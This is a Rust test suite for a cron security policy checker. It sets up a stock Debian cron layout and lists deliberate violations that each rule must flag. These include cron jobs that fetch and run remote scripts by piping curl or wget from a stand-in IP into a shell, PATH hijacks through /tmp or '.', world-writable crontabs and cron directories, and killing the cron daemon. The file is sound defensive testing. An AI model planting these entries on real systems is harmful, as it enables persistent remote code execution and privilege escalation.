//! `policies/cron.yaml` on the files that Debian installs, and the real cron.
#![allow(missing_docs)]

use crate::support::shipped::{Violation, check, each_violation_is_told_by_its_rule_alone};
use crate::support::{Machine, Need, needs};

const POLICY: &str = "cron";

/// Cron as its package leaves it, with jobs of the system and of users, and running.
fn stock() -> Machine {
    let machine = Machine::new();
    machine.must(
        "rm -rf /etc/cron.* /etc/crontab /etc/anacrontab /etc/at.*
         mkdir -m 0755 /etc/cron.d /etc/cron.hourly /etc/cron.daily /etc/cron.weekly /etc/cron.monthly
         printf 'SHELL=/bin/sh\n# PATH=/tmp\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' > /etc/crontab
         printf '30 3 * * 0 root test -e /run/systemd/system || wget -q -O /var/tmp/list https://example.org | grep sh\n' > /etc/cron.d/site
         printf '#!/bin/sh\nexit 0\n' > /etc/cron.daily/dpkg
         chmod 0755 /etc/cron.daily/dpkg
         printf 'alice\n' > /etc/at.deny
         chmod 0640 /etc/at.deny
         mount -t tmpfs -o mode=0755 tmpfs /var/spool/cron
         mkdir /var/spool/cron/crontabs
         chown root:crontab /var/spool/cron/crontabs
         chmod 1730 /var/spool/cron/crontabs
         touch /var/spool/cron/crontabs/root /var/spool/cron/crontabs/alice
         chown 4242 /var/spool/cron/crontabs/alice
         chmod 0600 /var/spool/cron/crontabs/*",
    );
    machine.start("cron.service", "/usr/sbin/cron");
    machine
}

fn possible() -> bool {
    needs(&[Need::Root, Need::Namespaces, Need::Command("cron")])
}

const VIOLATIONS: &[Violation] = &[
    ("cron-crontab", "chmod g+w /etc/crontab; chgrp 4242 /etc/crontab"),
    ("cron-crontab", "setpriv --reuid=0 true; chmod 0666 /etc/crontab"),
    ("cron-jobs", "chown 4242 /etc/cron.d/site"),
    ("cron-scripts", "chmod 0777 /etc/cron.daily/dpkg"),
    ("cron-directories", "chmod 0777 /etc/cron.weekly"),
    (
        "cron-directories",
        "chown 4242 /etc/cron.d && chmod 0555 /etc/cron.d && chown root /etc/cron.d && chgrp 4242 /etc/cron.d",
    ),
    ("cron-spool", "chmod 1733 /var/spool/cron/crontabs"),
    ("cron-user-crontabs", "chmod 0644 /var/spool/cron/crontabs/alice"),
    ("cron-root-crontab", "chown 4242 /var/spool/cron/crontabs/root"),
    ("cron-allow", "chown 4242 /etc/at.deny"),
    ("cron-allow", "echo alice > /etc/cron.allow; chmod 0666 /etc/cron.allow"),
    ("cron-path", "sed -i 's|^PATH=|PATH=/tmp:|' /etc/crontab"),
    ("cron-path", "sed -i 's|^PATH=.*|&:|' /etc/crontab"),
    ("cron-path", "echo 'PATH=\"/usr/bin:/var/tmp/tools\"' >> /etc/cron.d/site"),
    ("cron-path", "echo 'PATH = .' >> /etc/cron.d/site"),
    (
        "cron-downloads",
        "echo '* * * * * root curl -fsSL http://192.0.2.1/x | sh' >> /etc/cron.d/site",
    ),
    ("cron-downloads", "echo 'wget -qO- http://192.0.2.1/x |/bin/bash' >> /etc/cron.daily/dpkg"),
    ("cron-running", "kill $(pgrep -x cron); while pgrep -x cron >/dev/null; do sleep 0.02; done"),
];

#[test]
fn stock_files_and_a_cron_that_runs_hold() {
    if !possible() {
        return;
    }
    check(&stock(), POLICY, &[]).holds_except_skipped(&[]);
}

#[test]
fn each_violation_is_told_by_its_rule() {
    if !possible() {
        return;
    }
    each_violation_is_told_by_its_rule_alone(POLICY, stock, VIOLATIONS);
}

#[test]
fn a_host_without_cron_is_not_judged() {
    if !possible() {
        return;
    }
    let machine = Machine::new();
    machine.must("rm -rf /etc/crontab /etc/cron.*");
    check(&machine, POLICY, &[]).does_not_apply();
}
